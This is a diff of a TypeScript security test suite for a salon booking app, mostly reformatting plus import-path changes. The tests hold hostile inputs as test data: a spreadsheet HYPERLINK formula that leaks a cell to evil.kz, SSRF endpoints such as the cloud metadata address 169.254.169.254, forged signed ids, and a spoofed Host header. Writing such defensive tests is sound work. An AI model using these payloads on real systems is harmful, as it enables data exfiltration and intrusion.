@@ -6,9 +6,9 @@ import http from 'node:http';
 import Papa from 'papaparse';
 import pg from 'pg';
 import {afterAll, beforeAll, describe, expect, inject, it} from 'vitest';
-import type {MemberContext} from '../../shared/auth/context.ts';
-import {SYSTEM_ROLE_PERMISSIONS} from '../../shared/auth/permissions.ts';
-import {queries} from '../../shared/queries/index.ts';
+import type {MemberContext} from '#shared/auth/context.ts';
+import {SYSTEM_ROLE_PERMISSIONS} from '#shared/auth/permissions.ts';
+import {queries} from '#shared/queries/index.ts';
 import {Client, signupCompany, uniqueEmail} from '../testing/http.ts';
 import {bookPublicly, freeSlots, salon, visitor} from '../testing/salon.ts';
 import {createZeroDb} from '../zero/db.ts';
@@ -85,9 +85,14 @@ describe('the public booking form', () => {
     // Forged "signed" ids fare no better.
     for (const forged of [`${victim.id}.AAAAAAAAAAAAAAAAAAAAAA`, `${victim.id}.`, `${victim.id}.${'Ы'.repeat(22)}`]) {
       const [next] = await freeSlots(s);
-      const again = await visitor().req('POST', `/c/${s.slug}/book/dana`, new URLSearchParams({...Object.fromEntries(form), time: String(next), form_id: forged}).toString(), {
-        'content-type': 'application/x-www-form-urlencoded',
-      });
+      const again = await visitor().req(
+        'POST',
+        `/c/${s.slug}/book/dana`,
+        new URLSearchParams({...Object.fromEntries(form), time: String(next), form_id: forged}).toString(),
+        {
+          'content-type': 'application/x-www-form-urlencoded',
+        },
+      );
       expect(again.status).toBe(303);
       expect(again.headers.get('location')).not.toContain(victim.id);
     }
@@ -102,7 +107,14 @@ describe('the public booking form', () => {
     const v = visitor();
     const step = await v.get(`/c/${s.slug}/book/dana?service=${s.service}&place=${s.place}&time=${start}`);
     const formId = /name="form_id" value="([^"]+)"/.exec(String(step.body))![1]!;
-    const body = new URLSearchParams({service: s.service, place: s.place, time: String(start), name: 'Дана', phone: '+77015550301', form_id: formId}).toString();
+    const body = new URLSearchParams({
+      service: s.service,
+      place: s.place,
+      time: String(start),
+      name: 'Дана',
+      phone: '+77015550301',
+      form_id: formId,
+    }).toString();
     const first = await v.req('POST', `/c/${s.slug}/book/dana`, body, {'content-type': 'application/x-www-form-urlencoded'});
     const second = await v.req('POST', `/c/${s.slug}/book/dana`, body, {'content-type': 'application/x-www-form-urlencoded'});
     expect([first.status, second.status]).toEqual([303, 303]);
@@ -117,7 +129,12 @@ describe('web push subscriptions', () => {
 
   it('accept only a browser push service’s endpoint', async () => {
     const {client} = await signupCompany('Push');
-    for (const endpoint of ['https://127.0.0.1/api/v1/api-keys', 'http://fcm.googleapis.com/fcm/send/x', 'https://169.254.169.254/latest/meta-data/', 'https://fcm.googleapis.com.evil.kz/x']) {
+    for (const endpoint of [
+      'https://127.0.0.1/api/v1/api-keys',
+      'http://fcm.googleapis.com/fcm/send/x',
+      'https://169.254.169.254/latest/meta-data/',
+      'https://fcm.googleapis.com.evil.kz/x',
+    ]) {
       const r = await client.post('/api/v1/push/subscriptions', {endpoint, keys}, {'accept-language': 'ru'});
       expect(r.status, endpoint).toBe(400);
       expect(r.body.error.fields[0].field).toBe('endpoint');
@@ -144,9 +161,14 @@ describe('CSV exports', () => {
   it('turn a visitor’s formula into text in the owner’s spreadsheet, and read back as typed', async () => {
     const {client, me} = await signupCompany('Формулы');
     const evil = '=HYPERLINK("http://evil.kz/?leak="&A2,"Позвонить")';
-    const posted = await visitor().req('POST', `/c/${me.company.slug}/request`, new URLSearchParams({name: evil, phone: '+77015550401', text: 'Здравствуйте'}).toString(), {
-      'content-type': 'application/x-www-form-urlencoded',
-    });
+    const posted = await visitor().req(
+      'POST',
+      `/c/${me.company.slug}/request`,
+      new URLSearchParams({name: evil, phone: '+77015550401', text: 'Здравствуйте'}).toString(),
+      {
+        'content-type': 'application/x-www-form-urlencoded',
+      },
+    );
     expect(posted.status).toBe(303);
     const csv = await client.get('/api/v1/clients/export?format=csv');
     expect(csv.status).toBe(200);
@@ -165,7 +187,13 @@ describe('links the server builds', () => {
     const invite = await new Promise<{url: string}>((resolve, reject) => {
       const body = JSON.stringify({role: 'staff'});
       const req = http.request(
-        {host: base.hostname, port: base.port, method: 'POST', path: '/api/v1/invites', headers: {host: 'evil.example', cookie: client.cookie, 'content-type': 'application/json', 'content-length': Buffer.byteLength(body)}},
+        {
+          host: base.hostname,
+          port: base.port,
+          method: 'POST',
+          path: '/api/v1/invites',
+          headers: {host: 'evil.example', cookie: client.cookie, 'content-type': 'application/json', 'content-length': Buffer.byteLength(body)},
+        },
         (res) => {
           let text = '';
           res.on('data', (d) => (text += d));
